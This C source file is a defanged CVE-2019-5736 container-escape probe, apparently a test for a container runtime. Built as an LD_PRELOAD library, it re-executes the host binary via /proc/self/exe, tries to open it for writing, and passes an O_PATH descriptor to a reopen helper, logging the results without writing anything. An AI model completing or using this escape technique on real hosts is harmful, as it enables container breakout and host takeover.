/*
 * The CVE-2019-5736 payload, as a library the attacker's image ships: with
 * LD_PRELOAD=/evil.so, a process that runs /evil (a script whose first line
 * is `#!/proc/self/exe`) makes the kernel execute whatever binary started
 * it — here whatever `stack exec` runs from — with this library loaded
 * into it. The constructor then, from inside that binary:
 *   - readlinks /proc/self/exe (a host path, or a memfd) and logs it,
 *   - tries to open it for writing (O_WRONLY, O_RDWR),
 *   - keeps an O_PATH fd of it and hands that to `/probe reopen`, which
 *     reopens it for writing through /proc/self/fd once this process is
 *     gone (the text is no longer busy then),
 * and exits before the binary's own main runs. Nothing is ever written.
 * Log lines (in $EVIL_LOG): EXE <target>, WRITE <how> OPEN|SEALED|BLOCKED,
 * then the reopen helper's WRITE reopen ... and DONE.
 *
 * Build: cc -shared -fPIC -O1 -o evil.so evil.c
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef F_GET_SEALS
#define F_GET_SEALS 1034
#endif
#ifndef F_SEAL_WRITE
#define F_SEAL_WRITE 0x0008
#endif

static void logline(int fd, const char *s)
{
	(void)!write(fd, s, strlen(s));
	(void)!write(fd, "\n", 1);
}

__attribute__((constructor)) static void evil(void)
{
	const char *logpath = getenv("EVIL_LOG");
	if (!logpath)
		return;
	int log = open(logpath, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (log < 0)
		return;
	char line[700], target[512];
	long n = syscall(SYS_readlinkat, AT_FDCWD, "/proc/self/exe", target, sizeof target - 1);
	if (n < 0)
		snprintf(target, sizeof target, "? (%s)", strerrorname_np(errno));
	else
		target[n] = 0;
	snprintf(line, sizeof line, "EXE %s", target);
	logline(log, line);
	static const int how[] = {O_WRONLY, O_RDWR};
	for (int h = 0; h < 2; h++) {
		int fd = syscall(SYS_openat, AT_FDCWD, "/proc/self/exe", how[h] | O_CLOEXEC);
		if (fd >= 0) {
			int seals = fcntl(fd, F_GET_SEALS);
			snprintf(line, sizeof line, "WRITE %s %s opened its own exe",
				 h ? "O_RDWR" : "O_WRONLY",
				 seals >= 0 && (seals & F_SEAL_WRITE) ? "SEALED" : "OPEN");
			close(fd);
		} else {
			snprintf(line, sizeof line, "WRITE %s BLOCKED %s", h ? "O_RDWR" : "O_WRONLY",
				 strerrorname_np(errno));
		}
		logline(log, line);
	}
	/* no O_CLOEXEC: the reopen helper inherits it */
	int path_fd = syscall(SYS_openat, AT_FDCWD, "/proc/self/exe", O_PATH);
	if (path_fd < 0) {
		snprintf(line, sizeof line, "WRITE reopen BLOCKED O_PATH: %s", strerrorname_np(errno));
		logline(log, line);
		logline(log, "DONE");
		_exit(0);
	}
	pid_t me = getpid();
	pid_t pid = fork();
	if (pid == 0) {
		char fds[16], pids[16];
		snprintf(fds, sizeof fds, "%d", path_fd);
		snprintf(pids, sizeof pids, "%d", me);
		char *argv[] = {"/probe", "reopen", fds, pids, (char *)logpath, NULL};
		char *envp[] = {NULL};
		syscall(SYS_execve, "/probe", argv, envp);
		logline(log, "WRITE reopen BLOCKED cannot run /probe");
		logline(log, "DONE");
		_exit(1);
	}
	/* gone before the binary's main: its text stops being busy */
	_exit(0);
}
